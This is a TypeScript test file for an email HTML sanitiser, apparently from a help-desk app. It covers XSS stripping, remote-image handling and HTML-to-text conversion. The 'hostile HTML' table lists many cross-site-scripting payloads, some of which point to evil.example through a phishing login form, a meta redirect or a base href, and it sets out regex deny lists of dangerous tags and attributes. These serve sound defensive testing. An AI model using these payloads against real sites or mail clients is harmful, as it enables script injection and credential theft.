import { describe, expect, test } from 'vitest'
import { sanitiseOwn, textOf } from '../../platform/html.ts'
import { sanitiseMail } from './sanitising.ts'

const safe = (html: string): string => sanitiseMail(html)?.html as string

describe('hostile HTML', () => {
  test.each([
    '<script>alert(1)</script>',
    '<img src=x onerror=alert(1)>',
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href="java\tscript:alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="vbscript:x">x</a>',
    '<svg onload=alert(1)><a xlink:href="javascript:alert(1)">x</a></svg>',
    '<math><mi//xlink:href="data:x,<script>alert(4)</script>">',
    '<iframe src="https://evil.example"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="x.swf"></object><embed src="x.swf">',
    '<form action="https://evil.example"><input name=password><button>Sign in</button></form>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<base href="https://evil.example/">',
    '<link rel=stylesheet href="https://evil.example/x.css">',
    '<style>@import url(https://evil.example/x.css)</style>',
    '<style><img src="</style><img src=x onerror=alert(1)//">',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<xmp><img src=x onerror=alert(1)></xmp>',
    '<textarea><img src=x onerror=alert(1)></textarea>',
    '<template><script>alert(1)</script></template>',
    '<!--[if mso]><script>alert(1)</script><![endif]-->',
    '<div style="background:url(javascript:alert(1))">x</div>',
    '<div style="width:expression(alert(1))">x</div>',
    '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    '<img data-remote-src="javascript:alert(1)">',
    '<p id="root" class="mantine-Modal" onclick="x">x</p>',
    '<video src=x onerror=alert(1)><source onerror=alert(1)></video>',
    '<scr<script>ipt>alert(1)</scr</script>ipt>',
    '<img src="cid:x&quot; onerror=&quot;alert(1)">',
  ])('%s', (html) => {
    const result = safe(html)
    expect(result).not.toMatch(
      /<(?:script|iframe|object|embed|form|input|button|meta|base|link|style|svg|math|video)/i,
    )
    expect(result).not.toMatch(/<[^>]*\s(?:on\w+|id|class|srcdoc|action)\s*=/i)
    expect(result).not.toMatch(/javascript:|vbscript:|data:text|expression\(|url\(|svg\+xml/i)
    expect(safe(result)).toBe(result)
  })

  test('a mail cannot cover the desk or leave its place', () => {
    const html = '<div style="position:fixed;top:0;z-index:9999;margin:-500px;opacity:0;color:red">x</div>'
    expect(safe(html)).toBe('<div style="color:red">x</div>')
  })

  test('a link to a path would be a link into the desk', () => {
    expect(safe('<a href="/api/v1/session">x</a><a href="//evil.example">y</a>')).toBe('<a>x</a><a>y</a>')
  })

  test('links open without a way back to us', () => {
    expect(safe('<a href="https://shop.example" target="_top" rel="opener">x</a>')).toBe(
      '<a href="https://shop.example" target="_blank" rel="noopener noreferrer nofollow">x</a>',
    )
  })

  test('elements within elements come out flat enough for a browser', () => {
    expect(safe('<div>'.repeat(2_000)).split('<div>').length).toBeLessThan(300)
  })

  test.each(['<div>', '<b>', '<td><p>', '<table><tr><td>'])(
    'a megabyte of %s is not looked at as HTML',
    (part) => {
      const html = `<i>text</i>${part.repeat(1_000_000 / part.length)}`
      expect(sanitiseMail(html) === undefined).toBe(true)
      expect(textOf(html).slice(0, 10)).toBe('text')
    },
  )
})

describe('pictures', () => {
  test.each([
    [
      '<img src="https://x.example/a.png" width="5">',
      '<img width="5" data-remote-src="https://x.example/a.png" />',
      true,
    ],
    [
      '<img src=" http://x.example/a.png" srcset="https://x.example/b.png 2x">',
      '<img data-remote-src="http://x.example/a.png" />',
      true,
    ],
    ['<img src="//x.example/a.png">', '<img data-remote-src="https://x.example/a.png" />', true],
    ['<img src="cid:a%40b" alt="A">', '<img alt="A" src="cid:a@b" />', false],
    ['<img src="data:image/png;base64,AAAA">', '<img src="data:image/png;base64,AAAA" />', false],
    ['<img src="/api/v1/attachments/1">', '', false],
    [
      '<table background="https://x.example/a.png"><tr><td style="background-image:url(https://x.example)">x</td></tr></table>',
      '<table><tr><td>x</td></tr></table>',
      false,
    ],
  ])('%s', (html, expected, remote) => {
    expect(sanitiseMail(html)).toEqual({ html: expected, remotePictures: remote })
  })

  test('a picture inside the HTML has a limit', () => {
    expect(safe(`<img src="data:image/png;base64,${'A'.repeat(400_000)}">`)).toBe('')
  })
})

test('what people write stays as they wrote it', () => {
  const html =
    '<p style="text-align:center"><b>Жирный</b> <i>kursywa</i></p><blockquote>cytat</blockquote><ul><li>один</li></ul>' +
    '<table border="1"><tr><td colspan="2">1</td></tr></table><pre>code</pre>'
  expect(safe(html)).toBe(html)
})

describe('what agents write', () => {
  test('shows pictures uploaded here, and no others', () => {
    const html =
      '<p>a<img src="/api/v1/uploads/0198-x"><img src="https://x.example/a.png"><img src="/api/v1/../x?y"></p>'
    expect(sanitiseOwn(html)).toBe('<p>a<img src="/api/v1/uploads/0198-x" /></p>')
  })
})

describe('text of HTML', () => {
  test.each([
    ['<p>Привет,</p><p>мир</p>', 'Привет,\n\nмир'],
    ['a<br>b', 'a\nb'],
    ['<a href="https://x.example">https://x.example</a>', 'https://x.example'],
    ['<a href="https://x.example">here</a>', 'here <https://x.example>'],
    ['<table><tr><td>1</td><td>2</td></tr><tr><td>3</td></tr></table>', '1 2\n3'],
    ['<style>p{}</style><script>x</script><p>x&nbsp;y</p><img src=x>', 'x y'],
    ['<blockquote>quoted</blockquote>', '> quoted'],
    ['', ''],
  ])('%s', (html, text) => {
    expect(textOf(html)).toBe(text)
  })
})
